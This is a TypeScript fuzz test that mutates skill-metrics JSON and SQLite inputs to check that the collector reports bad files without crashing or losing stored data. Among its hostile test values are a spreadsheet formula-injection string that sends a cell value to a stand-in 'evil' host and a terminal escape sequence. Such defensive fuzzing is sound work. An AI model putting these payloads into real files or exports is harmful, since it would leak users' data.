/**
 * A bounded, deterministic mutation run over every input kind FORMATS.md lists (skill_metrics.json v1, v2,
 * v3; workflow_events.json; correlated_session.json; skills.db in both schemas), the way the checks behind
 * issue 15 found its faults. Each iteration writes one mutated file (bytes flipped, cut, spliced; a record
 * given a hostile value: deep nesting, far-out times, huge or non-finite durations, control characters,
 * formula names; the file replaced by a FIFO, a device link, a folder, an oversized file) and collects its
 * project. Asserted every time: collection does not throw; a file that is not valid is reported with a
 * clear, one-line message that quotes nothing of the file; what was stored before is still there. Asserted
 * at the end: the iteration count, a bound on memory growth, and a clean re-collection of the originals.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import initSqlJs from 'sql.js';
import type { SqlJsStatic } from 'sql.js';
import { computeAggregates } from '../../../src/analytics/derived';
import { collect } from '../../../src/ingest/collector';
import { Random } from '../../../src/demo/random';
import { Store } from '../../../src/analytics/store';
import { project, tempDir } from '../helpers';

/** Never stored, so never in a message: fields the readers must not repeat (a prompt, an unknown field). */
const MARKER = 'root:x:0:0-FUZZ-MARKER';
const MAX_FILE_BYTES = 256 * 1024;
const ITERATIONS = 140;
const RSS_GROWTH_LIMIT = 400 * 1024 * 1024;

type Kind = 'v1' | 'v2' | 'v3' | 'events' | 'correlated' | 'compat' | 'storage';
const KINDS: Kind[] = ['v1', 'v2', 'v3', 'events', 'correlated', 'compat', 'storage'];
const FILE_OF: Record<Kind, string> = {
  v1: 'skill_metrics.json', v2: 'skill_metrics.json', v3: 'skill_metrics.json', events: 'workflow_events.json',
  correlated: 'correlated_session.json', compat: 'skills.db/skills.db', storage: 'skills.db',
};

const at = (i: number) => new Date(Date.parse('2026-04-01T08:00:00Z') + i * 90_000).toISOString().slice(0, 19);

function invocation(kind: Kind, i: number): Record<string, unknown> {
  const base: Record<string, unknown> = {
    skill_name: `skill-${i % 4}`, invoked_at: at(i), workflow_path: i % 2 ? 'daily' : null, completed: i % 3 !== 0,
    duration_seconds: i % 3 !== 0 ? 5 + i : null, follow_up_actions: i % 2 ? ['git commit'] : [], error_type: i % 3 === 0 ? 'TimeoutError' : null,
  };
  if (kind === 'v1') return base;
  return { ...base, session_id: `s-${i % 3}`, user_query: MARKER, alternatives_considered: [MARKER], selection_rank: 1 };
}

function event(i: number): Record<string, unknown> {
  return {
    event_type: i % 2 ? 'node_completed' : 'node_started', workflow_id: 'crackerjack', node_id: `node-${i % 3}`, timestamp: at(i),
    session_id: `s-${i % 3}`, metadata: { duration_seconds: 2 + i, success: true, error_message: MARKER },
  };
}

/** The original (valid) content of each kind. */
function original(kind: Kind, SQL: SqlJsStatic): Buffer {
  const n = 12;
  const ids = Array.from({ length: n }, (_, i) => i);
  switch (kind) {
    case 'v1':
    case 'v2':
      return Buffer.from(JSON.stringify({ invocations: ids.map((i) => invocation(kind, i)), skills: {}, last_updated: at(n), unknown_field: MARKER }, null, 2));
    case 'v3':
      return Buffer.from(JSON.stringify({ invocations: ids.map((i) => invocation(kind, i)) }, null, 2));
    case 'events':
      return Buffer.from(JSON.stringify(ids.map(event), null, 2));
    case 'correlated':
      return Buffer.from(JSON.stringify({
        sessions: Object.fromEntries([0, 1, 2].map((s) => [`s-${s}`, {
          session_id: `s-${s}`, start_time: at(0), end_time: at(n), total_skill_duration: 1, total_workflow_duration: 1, skills_completed: 1, workflow_nodes_completed: 1,
          skill_invocations: ids.filter((i) => i % 3 === s).map((i) => invocation('v2', i)), workflow_events: ids.filter((i) => i % 3 === s).map(event),
        }])),
        exported_at: at(n),
      }, null, 2));
    case 'compat':
    case 'storage': {
      const db = new SQL.Database();
      if (kind === 'compat') {
        db.run(`CREATE TABLE skill_invocations (id INTEGER PRIMARY KEY AUTOINCREMENT, session_id TEXT NOT NULL, skill_name TEXT NOT NULL, user_query TEXT,
          workflow_phase TEXT, completed BOOLEAN DEFAULT FALSE, error_type TEXT, follow_up_actions TEXT, created_at TIMESTAMP, completed_at TIMESTAMP)`);
        for (const i of ids) {
          db.run('INSERT INTO skill_invocations (session_id, skill_name, user_query, completed, follow_up_actions, created_at, completed_at) VALUES (?, ?, ?, ?, ?, ?, ?)', [
            `autofix-${i % 2}`, `Agent${i % 3}`, MARKER, i % 2, '[]', at(i).replace('T', ' '), at(i + 1).replace('T', ' '),
          ]);
        }
      } else {
        db.run(`CREATE TABLE skill_invocation (id INTEGER PRIMARY KEY AUTOINCREMENT, skill_name TEXT NOT NULL, invoked_at TEXT NOT NULL, session_id TEXT NOT NULL,
          workflow_path TEXT, completed BOOLEAN NOT NULL DEFAULT 0, duration_seconds REAL, user_query TEXT, follow_up_actions TEXT, error_type TEXT)`);
        for (const i of ids) {
          db.run('INSERT INTO skill_invocation (skill_name, invoked_at, session_id, completed, duration_seconds, user_query, follow_up_actions) VALUES (?, ?, ?, ?, ?, ?, ?)', [
            `stored-${i % 4}`, `${at(i)}Z`, `s-${i % 3}`, 1, 4 + i, MARKER, '["a"]',
          ]);
        }
      }
      const bytes = Buffer.from(db.export());
      db.close();
      return bytes;
    }
  }
}

/** Stands for a 20,000-level array, spliced into the JSON text (building it as a value would overflow here). */
const DEEP = '__DEEP_ARRAY__';
const DEEP_TEXT = `${'['.repeat(20_000)}${']'.repeat(20_000)}`;

/** Values that broke (or could break) a reader, a writer or an analysis. */
const HOSTILE: (() => unknown)[] = [
  () => DEEP,
  () => 1.7e308,
  () => -1.7e308,
  () => '1900-01-01T00:00:00',
  () => '2999-12-31T23:59:59Z',
  () => '\u001b[2J\u001b]0;owned\u0007',
  () => 'two\nlines\r\n',
  () => '=HYPERLINK("http://evil/?"&A1,"x")',
  () => 'x'.repeat(5000),
  () => null,
  () => ({ nested: { deeper: [1, 2, { x: MARKER }] } }),
  () => [MARKER],
  () => true,
  () => 0,
  () => '',
  () => '\u0000',
];

const TOKENS = ['\u0000', '\uFEFF', '\\', '"', '}', ']', ',', '{', '[', 'NaN', '1e999', '"\\ud800"', `"${MARKER}"`];

interface Mutation {
  name: string;
  /** Content to write, or a file-system action that replaces the file. */
  content?: Buffer;
  special?: 'fifo' | 'dev-zero' | 'folder' | 'missing';
}

function mutate(kind: Kind, base: Buffer, rnd: Random, SQL: SqlJsStatic): Mutation {
  const op = rnd.weighted([3, 3, 2, 2, 2, 4, 1, 1, 1, 1, 1, 2]);
  const pos = () => rnd.int(0, Math.max(0, base.length - 1));
  switch (op) {
    case 0: { // cut (a writer caught mid-rewrite)
      const cut = pos();
      return { name: `truncate at ${cut}`, content: base.subarray(0, cut) };
    }
    case 1: { // flip bytes
      const out = Buffer.from(base);
      const n = rnd.int(1, 8);
      for (let i = 0; i < n; i++) out[pos()] = rnd.int(0, 255);
      return { name: `flip ${n} bytes`, content: out };
    }
    case 2: { // splice in a token
      const p = pos();
      const token = rnd.pick(TOKENS);
      return { name: `insert ${JSON.stringify(token)} at ${p}`, content: Buffer.concat([base.subarray(0, p), Buffer.from(token), base.subarray(p)]) };
    }
    case 3: { // duplicate or delete a slice
      const a = pos();
      const b = Math.min(base.length, a + rnd.int(1, 200));
      return rnd.chance(0.5)
        ? { name: `duplicate ${a}..${b}`, content: Buffer.concat([base.subarray(0, b), base.subarray(a, b), base.subarray(b)]) }
        : { name: `delete ${a}..${b}`, content: Buffer.concat([base.subarray(0, a), base.subarray(b)]) };
    }
    case 4: // invalid UTF-8 / binary junk
      return { name: 'binary junk', content: Buffer.concat([base.subarray(0, pos()), Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0x00])]) };
    case 5: { // a record with one hostile value
      const value = rnd.pick(HOSTILE)();
      const content = kind === 'compat' || kind === 'storage' ? hostileRow(kind, base, value, rnd, SQL) : hostileRecord(kind, base, value, rnd);
      return { name: `hostile value ${String(JSON.stringify(value)).slice(0, 40)}`, content };
    }
    case 6:
      return { name: 'a FIFO', special: 'fifo' };
    case 7:
      return { name: 'a symlink to /dev/zero', special: 'dev-zero' };
    case 8:
      return { name: 'a folder', special: 'folder' };
    case 9:
      return { name: 'over the size limit', content: Buffer.concat([base, Buffer.alloc(MAX_FILE_BYTES, 0x20)]) };
    case 10:
      return { name: 'empty', content: Buffer.alloc(0) };
    default: // the original again (a no-op rewrite)
      return { name: 'unchanged', content: base };
  }
}

function hostileRecord(kind: Kind, base: Buffer, value: unknown, rnd: Random): Buffer {
  const doc = JSON.parse(base.toString('utf8'));
  const records: Record<string, unknown>[] =
    kind === 'events' ? doc : kind === 'correlated' ? doc.sessions[rnd.pick(Object.keys(doc.sessions))][rnd.chance(0.5) ? 'skill_invocations' : 'workflow_events'] : doc.invocations;
  const record = rnd.pick(records);
  const keys = Object.keys(record);
  const key = rnd.chance(0.8) ? rnd.pick(keys) : 'metadata';
  if (key === 'metadata' && record.metadata && rnd.chance(0.5)) (record.metadata as Record<string, unknown>)[rnd.pick(['duration_seconds', 'success', 'deep'])] = value;
  else record[key] = value;
  return Buffer.from(JSON.stringify(doc).replace(`"${DEEP}"`, DEEP_TEXT));
}

function hostileRow(kind: Kind, base: Buffer, value: unknown, rnd: Random, SQL: SqlJsStatic): Buffer {
  const db = new SQL.Database(Uint8Array.from(base)); // a copy: sql.js may write into the buffer it is given
  const table = kind === 'compat' ? 'skill_invocations' : 'skill_invocation';
  const column = rnd.pick(kind === 'compat' ? ['skill_name', 'created_at', 'completed_at', 'follow_up_actions', 'error_type', 'completed'] : ['skill_name', 'invoked_at', 'duration_seconds', 'follow_up_actions', 'completed']);
  const sqlValue = value === DEEP ? DEEP_TEXT : typeof value === 'object' && value !== null ? JSON.stringify(value) : typeof value === 'boolean' ? Number(value) : (value as string | number | null);
  db.run(`UPDATE ${table} SET ${column} = ? WHERE id = ?`, [sqlValue, rnd.int(1, 12)]);
  const bytes = Buffer.from(db.export());
  db.close();
  return bytes;
}

function place(file: string, m: Mutation): void {
  rmSync(file, { recursive: true, force: true });
  mkdirSync(path.dirname(file), { recursive: true });
  if (m.content) writeFileSync(file, m.content);
  else if (m.special === 'fifo') execFileSync('mkfifo', [file]);
  else if (m.special === 'dev-zero') symlinkSync('/dev/zero', file);
  else if (m.special === 'folder') mkdirSync(file);
}

async function storedCounts(store: Store): Promise<Map<string, number>> {
  const rows = await store.read((db) =>
    db.all<{ project_id: string; n: number }>(
      `SELECT project_id, sum(n) AS n FROM (SELECT project_id, count(*) AS n FROM skill_usage GROUP BY ALL
       UNION ALL SELECT project_id, count(*) FROM workflow_events GROUP BY ALL) GROUP BY ALL`,
    ),
  );
  return new Map(rows.map((r) => [r.project_id, Number(r.n)]));
}

describe('fuzzing: every input kind, mutated (bounded, deterministic)', () => {
  it(`${ITERATIONS} seeded mutations: no crash, every bad file reported clearly, nothing stored lost, memory bounded`, async function () {
    const SQL = await initSqlJs();
    const rnd = new Random('skill-metrics-fuzz', 15);
    const root = tempDir();
    // One process alone on the file: keep it open between collections (as a busy window does).
    const store = new Store({ path: path.join(root, 'skill_metrics.duckdb'), displayTimeZone: 'UTC', lingerMs: 600_000, maxHoldMs: 600_000 });
    const options = { sourceTimeZone: 'UTC', maxFileBytes: MAX_FILE_BYTES, origin: 'test' as const, retryDelaysMs: [] };
    const projects = new Map<Kind, { dir: string; file: string; base: Buffer; id?: string }>();
    for (const kind of KINDS) {
      const dir = project(root, `p-${kind}`);
      const file = path.join(dir, '.session-buddy', FILE_OF[kind]);
      const base = original(kind, SQL);
      place(file, { name: 'original', content: base });
      projects.set(kind, { dir, file, base });
    }
    const first = await collect(store, { ...options, register: [...projects.values()].map((p) => p.dir) });
    assert.deepEqual(first.problems, [], 'the originals are valid');
    for (const p of projects.values()) {
      p.id = (await store.read((db) => db.one<{ id: string }>('SELECT project_id AS id FROM source_files WHERE path = $1', [p.file])))!.id;
    }
    let stored = await storedCounts(store);
    for (const kind of KINDS) assert.ok((stored.get(projects.get(kind)!.id!) ?? 0) > 0, `${kind} ingested`);

    global.gc?.();
    const rssBefore = process.memoryUsage().rss;
    let peakRss = rssBefore;
    const outcomes = { reported: 0, clean: 0, invalidRecords: 0 };
    let iterations = 0;
    for (let i = 0; i < ITERATIONS; i++) {
      const kind = KINDS[i % KINDS.length]!;
      const p = projects.get(kind)!;
      const m = mutate(kind, p.base, rnd, SQL);
      const label = `#${i} ${kind}: ${m.name}`;
      place(p.file, m);
      const t = Date.now();
      const result = await collect(store, { ...options, projects: [p.id!] });
      if (process.env.FUZZ_DEBUG) process.stderr.write(`${label} ${Date.now() - t} ms\n`);
      iterations++;
      // Every message is clear: one line, printable, bounded, and repeats nothing of the file.
      for (const problem of result.problems) {
        assert.ok(problem.message.length > 0 && problem.message.length <= 600, `${label}: ${problem.message}`);
        assert.ok(!/[\u0000-\u001f\u007f]/.test(problem.message), `${label}: control characters in ${JSON.stringify(problem.message)}`);
        assert.ok(!problem.message.includes('FUZZ-MARKER') && !problem.message.includes('Unexpected token'), `${label}: quotes the file: ${problem.message}`);
        assert.ok(!/Maximum call stack|Infinity/.test(problem.message), `${label}: ${problem.message}`);
      }
      const mine = result.problems.filter((x) => x.file === p.file);
      // An independent verdict for what must be reported.
      // (A folder named skills.db is where Crackerjack's compat layer keeps its database (B12): not a fault.)
      const mustReport =
        (m.special !== undefined && !(m.special === 'folder' && (kind === 'compat' || kind === 'storage'))) ||
        (m.content !== undefined && (m.content.length > MAX_FILE_BYTES || (!kind.startsWith('c') && kind !== 'storage' && !parsesAsJson(m.content))));
      if (mustReport) assert.equal(mine.length, 1, `${label}: reported (${JSON.stringify(result.problems)})`);
      if (m.name === 'unchanged' || (m.content && m.content.equals(p.base))) assert.deepEqual(mine, [], `${label}: the original is not a problem`);
      if (mine.length) outcomes.reported++;
      else outcomes.clean++;
      if (result.skipped_invalid > 0) {
        outcomes.invalidRecords++;
        assert.equal(mine.length, 1, `${label}: skipped records are reported`);
        assert.match(mine[0]!.message, /record(s)? skipped/);
      }
      // Nothing stored before is lost.
      const now = await storedCounts(store);
      for (const [id, n] of stored) assert.ok((now.get(id) ?? 0) >= n, `${label}: project ${id} had ${n} records, now ${now.get(id) ?? 0}`);
      stored = now;
      peakRss = Math.max(peakRss, process.memoryUsage().rss);
    }
    assert.equal(iterations, ITERATIONS);
    assert.ok(outcomes.reported >= ITERATIONS / 3, `most mutations are bad and reported: ${JSON.stringify(outcomes)}`);
    assert.ok(outcomes.invalidRecords > 0 && outcomes.clean > 0, JSON.stringify(outcomes));
    assert.ok(peakRss - rssBefore < RSS_GROWTH_LIMIT, `RSS grew by ${((peakRss - rssBefore) / 1048576).toFixed(0)} MB`);

    // The originals back: collected without a problem, and the analyses run over what the run stored.
    for (const p of projects.values()) place(p.file, { name: 'original', content: p.base });
    const last = await collect(store, { ...options });
    assert.deepEqual(last.problems, []);
    const run = await store.write((db) => computeAggregates(db));
    assert.ok(run.rows_written > 0);
    const bounded = await store.read((db) =>
      db.one<{ far: number }>("SELECT count(*) AS far FROM skill_usage WHERE invoked_at < '2000-01-01' OR invoked_at > now() + INTERVAL 1 DAY"),
    );
    assert.equal(Number(bounded!.far), 0, 'no far-out time was stored');
    store.close();
  });
});

function parsesAsJson(bytes: Buffer): boolean {
  try {
    const text = new TextDecoder('utf-8', { fatal: true }).decode(bytes);
    if (!text.trim()) return false;
    JSON.parse(text);
    return true;
  } catch {
    return false;
  }
}
